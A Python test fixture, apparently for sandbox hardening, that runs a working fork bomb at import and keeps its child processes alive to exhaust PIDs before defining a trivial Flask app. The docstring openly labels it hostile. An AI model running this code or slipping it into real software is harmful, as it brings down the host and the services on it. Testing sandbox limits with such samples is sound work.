"""Hostile ex01: a fork bomb at import, then a correct app.

Every process forks until the pids limit refuses, and every child then holds
its pid forever, so the sandbox has no pid left for the server's threads.
"""

import os
import time

from flask import Flask

ORIGINAL = os.getpid()
forks = 0
for _ in range(10_000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        forks = 0  # a child keeps forking too: that is what makes it a bomb
    else:
        forks += 1

if os.getpid() != ORIGINAL:
    while True:  # children never reach the app; they only hold their pid
        time.sleep(60)

print(f"FORK-BOMB: the first process forked {forks} times before the limit", flush=True)

app = Flask(__name__)


@app.route("/")
def hello():
    return "Hello, Flask World!"
